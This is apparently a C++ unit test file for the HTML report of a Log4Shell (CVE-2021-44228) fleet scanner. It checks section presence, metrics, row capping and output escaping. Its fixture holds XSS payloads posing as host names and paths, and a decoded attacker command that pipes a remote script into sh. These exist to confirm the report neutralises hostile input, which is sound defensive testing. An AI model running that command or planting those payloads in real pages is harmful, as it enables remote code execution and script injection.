// The fleet HTML report on an Analysis built by hand: hostile host names,
// paths and attacker strings stay text, every section is there, and the
// numbers on the page are the analysis' numbers.
#include "fleet/html_report.h"

#include <regex>
#include <sstream>

#include <gtest/gtest.h>

namespace l4s::fleet {
namespace {

const std::string kHostileHost = "<script>alert('host')</script>";
const std::string kHostilePath = "/opt/<b>x</b>&y\"q'.war!/WEB-INF/lib/log4j-core-2.14.1.jar";
const std::string kHostileCallbackHost = "<img src=x onerror=alert(1)>.evil.example";
const std::string kHostileName = "\"><svg onload=alert(1)>";

Finding finding(const std::string& location, FindingStatus status, Severity severity) {
  Finding f;
  f.path = location.substr(0, location.find("!/"));
  f.location = location;
  f.component = "log4j-core";
  f.status = status;
  f.severity = severity;
  return f;
}

// Three hosts: one exposed (hostile name and path), one mitigated and fixed,
// one never scanned; attacks and canary callbacks with attacker text.
Analysis sample() {
  Analysis a;
  a.generated = "2026-11-28T00:00:00Z";
  a.since = "2026-11-20";
  a.reports = 7;

  HostState evil;
  evil.host = kHostileHost;
  evil.scans = 2;
  evil.last_scan = "2026-11-27T10:00:00Z";
  Finding v = finding(kHostilePath, FindingStatus::kVulnerable, Severity::kCritical);
  v.version = "2.14.1";
  v.cves = {"CVE-2021-44228", "CVE-2021-45046"};
  evil.current = {v};
  evil.vulnerable = 1;
  evil.exposed = true;
  evil.open_cves = v.cves;
  evil.attempts = 3;

  HostState web;
  web.host = "web02";
  web.scans = 3;
  web.last_scan = "2026-11-26T10:00:00Z";
  Finding m = finding("/srv/shop.jar", FindingStatus::kMitigated, Severity::kMedium);
  m.version_range = "2.13.0..2.14.1";
  m.mitigated_cves = {"CVE-2021-44228"};
  web.current = {m};
  web.mitigated = 1;
  web.fixed = 1;

  HostState never;
  never.host = "db01";

  a.hosts = {evil, web, never};
  a.hosts_exposed = 1;
  a.exposed_by_cve = {{"CVE-2021-44228", {kHostileHost}}, {"CVE-2021-45046", {kHostileHost}}};
  a.hosts_by_severity = {{"critical", 1}};
  a.exposed_by_version = {{"log4j-core 2.14.1", 1}};
  a.fixed = {FixEvent{"web02", "/srv/shop.jar!/BOOT-INF/lib/log4j-core.jar", "log4j-core", "2.14.1",
                      "2026-11-22T10:00:00Z", "fix", "mitigated"}};
  a.not_scanned_since = {"db01"};
  a.progress = {{"2026-11-20", 2, 2, 2}, {"2026-11-22", 2, 1, 1}};
  a.attempts = 3;
  a.attempts_reaching_jndi = 2;
  a.attempts_by_hour = {{"2021-12-10T12", 2}, {"2021-12-10T13", 0}, {"2021-12-10T14", 1}};
  a.top_sources = {{"198.51.100.7", 3}};
  a.top_callback_hosts = {{kHostileCallbackHost, 2}};
  a.decoded_commands = {{"curl -s http://x/a.sh </dev/null | sh", 1}};
  CallbackRow cb;
  cb.time = "2026-11-21T08:00:00Z";
  cb.protocol = "ldap";
  cb.peer = "203.0.113.9:41000";
  cb.name = kHostileName;
  cb.token = "tok123";
  a.callbacks = {cb};
  ProbeRow p;
  p.target = "http://10.0.0.5:8080/<login>";
  p.hits = 2;
  p.points = {"header User-Agent", "query q"};
  p.first_callback = "2026-11-21T08:00:00Z";
  a.confirmed_targets = {p};
  return a;
}

std::string render(const Analysis& a, size_t max_rows = kDefaultMaxRows) {
  std::ostringstream out;
  write_html_report(Fleet{}, a, out, max_rows);
  return out.str();
}

size_t count(const std::string& hay, const std::string& needle) {
  size_t n = 0;
  for (size_t p = hay.find(needle); p != std::string::npos; p = hay.find(needle, p + needle.size())) ++n;
  return n;
}

// The number on a summary card, -1 when the card is missing.
long metric(const std::string& html, const std::string& name) {
  std::smatch m;
  if (!std::regex_search(html, m, std::regex("data-metric=\"" + name + "\"><div class=\"n\">(-?[0-9]+)<"))) return -1;
  return std::stol(m[1]);
}

// The class of a summary card ("bad", "good", "warn" or "").
std::string metric_class(const std::string& html, const std::string& name) {
  std::smatch m;
  if (!std::regex_search(html, m, std::regex("<div class=\"card ([a-z]*)\" data-metric=\"" + name + "\">"))) return "?";
  return m[1];
}

// The body rows of the table with this id.
size_t table_rows(const std::string& html, const std::string& id) {
  size_t start = html.find("<table id=\"" + id + "\">");
  if (start == std::string::npos) return 0;
  size_t body = html.find("<tbody>", start), end = html.find("</tbody>", start);
  return count(html.substr(body, end - body), "<tr>");
}

bool valid_utf8(const std::string& s) {
  for (size_t i = 0; i < s.size();) {
    const auto c = static_cast<unsigned char>(s[i]);
    const size_t n = c < 0x80 ? 1 : (c >> 5) == 6 ? 2 : (c >> 4) == 14 ? 3 : (c >> 3) == 30 ? 4 : 0;
    if (n == 0 || i + n > s.size()) return false;
    for (size_t k = 1; k < n; ++k)
      if ((static_cast<unsigned char>(s[i + k]) & 0xC0) != 0x80) return false;
    i += n;
  }
  return true;
}

TEST(HtmlReport, HostileTextIsEscapedEverywhere) {
  const std::string h = render(sample());
  for (const std::string& raw : {kHostileHost, kHostileCallbackHost, kHostileName, std::string("<b>x</b>"),
                                 std::string("<login>"), std::string("onerror=alert(1)>")})
    EXPECT_EQ(h.find(raw), std::string::npos) << raw;
  EXPECT_EQ(count(h, "<script"), 1u);  // the report's own, at the end
  EXPECT_EQ(count(h, "<svg"), count(h, "</svg>"));
  // Escaped in text...
  EXPECT_NE(h.find("<td>&lt;script&gt;alert(&#39;host&#39;)&lt;/script&gt;</td>"), std::string::npos);
  EXPECT_NE(h.find("&lt;img src=x onerror=alert(1)&gt;.evil.example"), std::string::npos);
  EXPECT_NE(h.find("&quot;&gt;&lt;svg onload=alert(1)&gt;"), std::string::npos);
  EXPECT_NE(h.find("curl -s http://x/a.sh &lt;/dev/null | sh"), std::string::npos);
  // ...and in attributes, where a quote would end the value.
  EXPECT_NE(h.find("data-v=\"/opt/&lt;b&gt;x&lt;/b&gt;&amp;y&quot;q&#39;.war!/WEB-INF/lib/log4j-core-2.14.1.jar\""),
            std::string::npos);
  // The nested location is one list item per level, each escaped.
  EXPECT_NE(h.find("<li style=\"--d:0\">/opt/&lt;b&gt;x&lt;/b&gt;&amp;y&quot;q&#39;.war</li>"
                   "<li style=\"--d:1\">WEB-INF/lib/log4j-core-2.14.1.jar</li>"),
            std::string::npos);
  // Chart labels and tooltips are escaped too (the host chart and the CVE chart name the host).
  EXPECT_NE(h.find("<title>&lt;script&gt;alert(&#39;host&#39;)&lt;/script&gt;: 1</title>"), std::string::npos);
}

TEST(HtmlReport, EverySectionIsThere) {
  for (const Analysis& a : {sample(), Analysis{}}) {
    const std::string h = render(a);
    SCOPED_TRACE(a.hosts.empty() ? "empty analysis" : "sample");
    EXPECT_EQ(h.rfind("<!DOCTYPE html>\n", 0), 0u);
    EXPECT_NE(h.find("</html>\n"), std::string::npos);
    for (const char* id : {"summary", "by-cve", "by-version", "by-host", "by-severity", "findings-section",
                           "hosts-section", "progress", "attacks", "canary", "filter", "shown", "findings", "hosts"})
      EXPECT_NE(h.find(std::string("id=\"") + id + "\""), std::string::npos) << id;
    for (const char* m : {"hosts", "hosts_scanned", "hosts_exposed", "vulnerable_copies", "mitigated_copies", "fixed",
                          "attempts", "attempts_reaching_jndi", "callbacks", "confirmed_targets"})
      EXPECT_GE(metric(h, m), 0) << m;
    // Self-contained: nothing is fetched when the page opens.
    EXPECT_EQ(h.find("src=\"http"), std::string::npos);
    EXPECT_EQ(h.find("href=\"http"), std::string::npos);
    EXPECT_NE(h.find("Content-Security-Policy"), std::string::npos);
  }
  const std::string h = render(sample());
  for (const char* id : {"fixed", "confirmed", "callbacks", "stale"})
    EXPECT_NE(h.find(std::string("id=\"") + id + "\""), std::string::npos) << id;
}

TEST(HtmlReport, NumbersAreTheAnalysisNumbers) {
  const std::string h = render(sample());
  EXPECT_EQ(metric(h, "hosts"), 3);
  EXPECT_EQ(metric(h, "hosts_scanned"), 2);
  EXPECT_EQ(metric(h, "hosts_exposed"), 1);
  EXPECT_EQ(metric(h, "vulnerable_copies"), 1);
  EXPECT_EQ(metric(h, "mitigated_copies"), 1);
  EXPECT_EQ(metric(h, "fixed"), 1);
  EXPECT_EQ(metric(h, "attempts"), 3);
  EXPECT_EQ(metric(h, "attempts_reaching_jndi"), 2);
  EXPECT_EQ(metric(h, "callbacks"), 1);
  EXPECT_EQ(metric(h, "confirmed_targets"), 1);
  EXPECT_EQ(metric_class(h, "hosts_exposed"), "bad");
  EXPECT_EQ(metric_class(h, "mitigated_copies"), "warn");
  EXPECT_EQ(metric_class(h, "callbacks"), "bad");
  EXPECT_NE(h.find("from 7 reports"), std::string::npos);
  EXPECT_NE(h.find("events since 2026-11-20"), std::string::npos);

  EXPECT_EQ(table_rows(h, "findings"), 2u);
  EXPECT_NE(h.find("<span id=\"shown\" class=\"muted\">2 of 2 findings</span>"), std::string::npos);
  EXPECT_EQ(table_rows(h, "hosts"), 3u);
  EXPECT_EQ(table_rows(h, "fixed"), 1u);
  EXPECT_EQ(table_rows(h, "confirmed"), 1u);
  EXPECT_EQ(table_rows(h, "callbacks"), 1u);
  EXPECT_NE(h.find("<span class=\"muted\">never scanned</span> <span class=\"muted\">(stale)</span>"),
            std::string::npos);
  EXPECT_NE(h.find("<ul id=\"stale\"><li>db01</li></ul>"), std::string::npos);
  // A copy known only by range shows the range; mitigated CVEs say so.
  EXPECT_NE(h.find("<td>2.13.0..2.14.1</td>"), std::string::npos);
  EXPECT_NE(h.find("CVE-2021-44228\u00a0(mitigated)"), std::string::npos);
  EXPECT_NE(h.find("<td class=\"st-vulnerable\">vulnerable</td><td data-v=\"4\">"), std::string::npos);
  // One bar per CVE, one point per progress day and series, one bar per hour.
  EXPECT_NE(h.find("<title>CVE-2021-45046: 1</title>"), std::string::npos);
  EXPECT_EQ(count(h, "<circle "), 6u);
  EXPECT_EQ(count(h, "fill=\"#b3261e\"/></g>"), 3u);
  EXPECT_NE(h.find("<title>2021-12-10T13:00 UTC: 0 attempts</title>"), std::string::npos);
  EXPECT_NE(h.find("<title>2021-12-10T14:00 UTC: 1 attempt</title>"), std::string::npos);
}

TEST(HtmlReport, EmptyFleetSaysSo) {
  const std::string h = render(Analysis{});
  EXPECT_EQ(metric(h, "hosts"), 0);
  EXPECT_EQ(metric(h, "vulnerable_copies"), 0);
  EXPECT_EQ(metric_class(h, "vulnerable_copies"), "good");
  EXPECT_EQ(metric_class(h, "attempts"), "good");
  EXPECT_EQ(table_rows(h, "findings"), 0u);
  EXPECT_NE(h.find("0 of 0 findings"), std::string::npos);
  for (const char* text : {"no scans yet", "nothing fixed yet", "no attempts recorded", "no callback recorded"})
    EXPECT_NE(h.find(text), std::string::npos) << text;
  EXPECT_EQ(h.find("Not scanned since"), std::string::npos);  // only with --since
}

TEST(HtmlReport, RowCapKeepsTheWorstCopies) {
  Analysis a = sample();
  HostState more;
  more.host = "web09";
  more.scans = 1;
  more.current = {finding("/a/safe.jar", FindingStatus::kSafe, Severity::kNone),
                  finding("/a/high.jar", FindingStatus::kVulnerable, Severity::kHigh),
                  finding("/a/mitigated.jar", FindingStatus::kMitigated, Severity::kLow)};
  a.hosts.push_back(more);
  const std::string capped = render(a, 2);
  EXPECT_EQ(table_rows(capped, "findings"), 2u);
  EXPECT_NE(capped.find("The 2 worst of 5 copies"), std::string::npos);
  EXPECT_NE(capped.find("2 of 2 findings"), std::string::npos);
  EXPECT_NE(capped.find("data-v=\"/opt/&lt;b&gt;"), std::string::npos);  // critical
  EXPECT_NE(capped.find("data-v=\"/a/high.jar\""), std::string::npos);
  EXPECT_EQ(capped.find("data-v=\"/a/safe.jar\""), std::string::npos);
  EXPECT_EQ(capped.find("data-v=\"/a/mitigated.jar\""), std::string::npos);
  // The summary still counts every copy.
  EXPECT_EQ(metric(capped, "vulnerable_copies"), 1);  // HostState.vulnerable, not the rows

  const std::string all = render(a, 0);
  EXPECT_EQ(table_rows(all, "findings"), 5u);
  EXPECT_EQ(all.find("id=\"truncated\""), std::string::npos);
  EXPECT_EQ(render(a, 5), all);  // a cap not reached changes nothing
}

TEST(HtmlReport, LongChartLabelsAreCutOnCharacterBoundaries) {
  Analysis a;
  // 22 ASCII bytes, then two-byte characters: byte 23 falls inside one.
  a.exposed_by_version = {{"log4j-core 2.14.1-redh\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9", 2},
                          {"\u65e5\u672c\u8a9e\u65e5\u672c\u8a9e\u65e5\u672c\u8a9e\u65e5\u672c\u8a9e", 1}};
  const std::string h = render(a);
  EXPECT_TRUE(valid_utf8(h));
  EXPECT_NE(h.find(">log4j-core 2.14.1-redh\u2026</text>"), std::string::npos);  // not "redh\xc3"
  // The tooltip keeps the whole label.
  EXPECT_NE(h.find("<title>log4j-core 2.14.1-redh\u00e9\u00e9\u00e9\u00e9\u00e9\u00e9: 2</title>"), std::string::npos);
}

}  // namespace
}  // namespace l4s::fleet
